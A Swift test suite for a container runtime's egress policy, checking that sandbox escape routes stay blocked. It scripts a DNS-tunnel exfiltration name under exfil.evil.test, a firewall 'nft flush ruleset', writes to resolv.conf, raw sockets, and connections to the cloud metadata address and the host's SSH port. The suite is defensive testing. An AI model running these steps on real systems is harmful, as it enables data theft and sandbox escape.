import Foundation
import Testing

/// Ways around a deny-by-default egress policy in bridge mode, all inside
/// the test's own network namespaces.
@Suite(.serialized) struct EgressEscapeTests {
    static func policy(_ mode: EscapeMode) -> [String] {
        mode.flags + [
            "--dns", NetworkWorld.resolver, "--egress-domain", "api.test", "--egress-allow", "203.0.113.10/32",
        ]
    }

    /// DNS goes only to the forwarder, and from it only to the configured
    /// resolver: a query sent straight to another server is rejected, and a
    /// name outside the list (a tunnel's carrier) never leaves the container.
    @Test(arguments: EscapeMode.allCases) func dnsCannotBeUsedAsAWayOut(mode: EscapeMode) throws {
        let world = try NetworkWorld()
        defer { world.close() }
        try world.setRecords(["api.test 60 203.0.113.11"])
        let tunnel = "c2VjcmV0.exfil.evil.test"
        let run = try world.probe(
            ["udp", "203.0.113.11", "53", "udp", "203.0.113.10", "53", "resolve", tunnel, "resolve", "api.test"],
            flags: Self.policy(mode))
        #expect(run.stdout.lines == ["unreachable", "refused", "nxdomain", "addresses 203.0.113.11"], "\(run.stderr)")
        #expect(world.queries.allSatisfy { !$0.contains("evil") }, "the tunnelled name never left: \(world.queries)")
        #expect(world.queries.contains("api.test"))
    }

    /// The resolver configuration and the socket families that would
    /// bypass the rules are out of the workload's reach.
    @Test(arguments: EscapeMode.allCases) func resolverFileAndRawSocketsAreOutOfReach(mode: EscapeMode) throws {
        let world = try NetworkWorld()
        defer { world.close() }
        let result = try world.nucleus(
            ["run", "--network", "bridge", "--volume", "\(Probe.directory):/probe:ro"] + Self.policy(mode) + [
                "--", "/probe/probe", "open-write:/etc/resolv.conf", "socket-raw", "socket-packet",
                "socket-netlink-audit", "unshare-net",
            ])
        #expect(
            result.stdout.lines == [
                "open-write:/etc/resolv.conf=\(Errno.erofs)", "socket-raw=1", "socket-packet=1",
                "socket-netlink-audit=1", "unshare-net=1",
            ], "\(mode.rawValue): \(result.stderr)")
    }

    /// Under an allow-everything policy the cloud metadata address, the
    /// host's own address and the bridge gateway stay rejected, and the
    /// workload cannot flush the rules that say so.
    @Test(arguments: EscapeMode.allCases) func metadataHostAndRulesStayOutOfReach(mode: EscapeMode) throws {
        let world = try NetworkWorld()
        defer { world.close() }
        let result = try world.nucleus(
            ["run", "--network", "bridge", "--volume", NetworkWorld.fixtures + ":/fixtures:ro"] + mode.flags + [
                "--dns", NetworkWorld.resolver, "--egress-allow", "0.0.0.0/0", "--", "/bin/sh", "-c",
                "/usr/sbin/nft flush ruleset 2>/dev/null; echo nft=$?; exec /usr/bin/python3 /fixtures/netclient.py connect 169.254.169.254 80 connect \(NetworkWorld.hostAddress) 22 connect 10.88.0.1 22 connect 203.0.113.12 80",
            ])
        #expect(result.stdout.lines.first.map { $0 != "nft=0" } == true, "the flush fails: \(result.stdout)")
        #expect(
            Array(result.stdout.lines.dropFirst()) == ["refused", "refused", "refused", "ok hello from 203.0.113.12"],
            "\(mode.rawValue): \(result.stdout) \(result.stderr)")
    }

    /// A dual-stack container under an IPv4-only policy: IPv6 is no way out.
    @Test(arguments: EscapeMode.allCases) func ipv6IsNoWayAroundAnIPv4Policy(mode: EscapeMode) throws {
        let world = try NetworkWorld()
        defer { world.close() }
        #expect(try world.inHost("/usr/sbin/sysctl", ["-qw", "net.ipv6.conf.all.forwarding=1"]).status == 0)
        let run = try world.probe(
            ["connect", NetworkWorld.servers6[0], "80", "connect", "203.0.113.10", "80"],
            flags: mode.flags + ["--ipv6", "--dns", NetworkWorld.resolver, "--egress-allow", "203.0.113.0/24"])
        #expect(run.stdout.lines == ["refused", "ok hello from 203.0.113.10"], "\(mode.rawValue): \(run.stderr)")
    }
}
